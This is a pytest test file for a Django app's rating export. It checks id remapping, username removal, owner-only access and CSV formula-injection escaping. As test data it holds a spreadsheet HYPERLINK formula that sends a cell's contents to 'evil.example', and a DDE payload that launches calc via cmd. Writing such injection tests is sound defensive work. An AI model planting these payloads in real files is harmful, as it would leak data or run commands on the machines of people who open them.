"""The owners' export of every rating: remapped ids, no usernames, hostile notes neutralised, JSONL that parses."""
import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from annotations.rating_exports import HEADER, export_csv, export_jsonl, export_rows
from experiments.analysis.exports import csv_safe_cell as safe_cell
from annotations.models import HumanGrade, RatingItem
from experiments.analysis.exports import scores_package_rows
from tests.test_annotations_results import rate_everything

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def url(campaign, fmt):
    return reverse("campaign_export", args=[campaign.project.slug, campaign.pk, fmt])


@pytest.fixture
def rated(campaign):
    RatingItem.objects.filter(campaign=campaign, number=2).update(gold_grade=1)

    def grade(number, username):
        return None if (number, username) == (3, "rater-b") else (number + len(username)) % 4

    rate_everything(campaign, grade=grade, note=HOSTILE)
    HumanGrade.objects.filter(assignment__campaign=campaign, assignment__item__number=1,
                              assignment__rater__username="rater-a").update(note=" \t@SUM(1+1)*cmd|' /C calc'!A0")
    return campaign


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_every_rating_with_remapped_ids_and_no_usernames(client, rated, cast):
    client.force_login(cast["owner"])
    response = client.get(url(rated, "csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode()
    rows = read_csv(text)
    assert list(rows[0]) == HEADER
    assert len(rows) == HumanGrade.objects.filter(assignment__campaign=rated).count() == 2 * rated.items.count()
    users = get_user_model().objects.all()
    for name in users.values_list("username", flat=True):
        assert name not in text
    assert {r["rater"] for r in rows} == {"R1", "R2"}
    assert all(r["person"].startswith("P") and r["task"].startswith("T") for r in rows)
    # a rater's label follows user id; the person and task numbers are those of the run's package
    a = users.get(username="rater-a")
    b = users.get(username="rater-b")
    assert (a.pk < b.pk) and rows[0]["item"] == "1" and rows[0]["rater"] == "R1"
    _, package = scores_package_rows(rated.run)
    person_of_task = {f"T{r['task']}": f"P{r['person']}" for r in package}
    assert all(person_of_task[r["task"]] == r["person"] for r in rows)
    flagged = [r for r in rows if r["flagged"] == "1"]
    assert [(r["item"], r["rater"], r["grade"], r["flag_reason"]) for r in flagged] == [("3", "R2", "", "cannot tell")]
    gold = {r["gold_grade"] for r in rows if r["item"] == "2"}
    assert gold == {"1"}


def test_hostile_notes_are_neutralised_in_csv_and_exact_in_jsonl(rated):
    rows = read_csv(export_csv(rated))
    notes = {r["note"] for r in rows}
    assert "'" + HOSTILE in notes and HOSTILE not in notes
    assert not any(n.startswith(("=", "+", "-", "@", "|", "%")) for n in notes)
    tricky = next(r["note"] for r in rows if r["item"] == "1" and r["rater"] == "R1")
    assert tricky.startswith("'") and "@SUM" in tricky
    assert safe_cell("-0.5") == "-0.5" and safe_cell(3) == 3 and safe_cell("\t=1+1") == "'\t=1+1"
    jsonl = [json.loads(line) for line in export_jsonl(rated).splitlines()]
    assert {r["note"] for r in jsonl} >= {HOSTILE}
    assert [list(r) for r in jsonl] == [HEADER] * len(jsonl)
    assert isinstance(jsonl[0]["conditions"], list) and jsonl[0]["rater"] == "R1"
    assert export_rows(rated) == jsonl


def test_jsonl_download_parses(client, rated, cast):
    client.force_login(cast["owner"])
    response = client.get(url(rated, "jsonl"))
    assert response.status_code == 200
    lines = response.content.decode().splitlines()
    assert len(lines) == 2 * rated.items.count()
    records = [json.loads(line) for line in lines]
    assert all(r["grade"] in (None, 0, 1, 2, 3) and isinstance(r["flagged"], bool) for r in records)
    assert not any("rater-" in line for line in lines)


@pytest.mark.parametrize("role, status", [("analyst", 403), ("viewer", 403), ("rater", 403), ("outsider", 404)])
def test_only_owners_export(client, rated, cast, role, status):
    client.force_login(cast[role])
    for fmt in ("csv", "jsonl"):
        assert client.get(url(rated, fmt)).status_code == status


def test_unknown_format_is_not_found(client, rated, cast):
    client.force_login(cast["owner"])
    assert client.get(url(rated, "xlsx")).status_code == 404
